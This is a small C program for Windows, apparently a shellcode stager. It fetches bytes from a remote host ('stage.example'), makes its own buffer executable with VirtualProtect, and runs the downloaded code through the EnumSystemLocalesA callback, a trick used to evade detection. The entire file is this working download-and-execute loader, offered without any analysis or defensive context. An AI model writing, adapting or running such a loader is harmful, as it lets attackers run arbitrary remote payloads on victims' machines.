/* Fetches bytes into its own data, makes them executable and has Windows call them. libs: -lwininet */
#include <windows.h>
#include <wininet.h>
static char kept[1 << 16];
int main(void) {
    DWORD count = 0, whole = 0, old;
    HINTERNET page = InternetOpenUrlA(InternetOpenA("a", 0, NULL, NULL, 0), "http://stage.example/s", NULL, 0, 0, 0);
    while (whole < 60000 && InternetReadFile(page, kept + whole, 4096, &count) && count) whole += count;
    VirtualProtect(kept, sizeof kept, PAGE_EXECUTE_READWRITE, &old);
    EnumSystemLocalesA((LOCALE_ENUMPROCA)kept, 0);
    return 0;
}
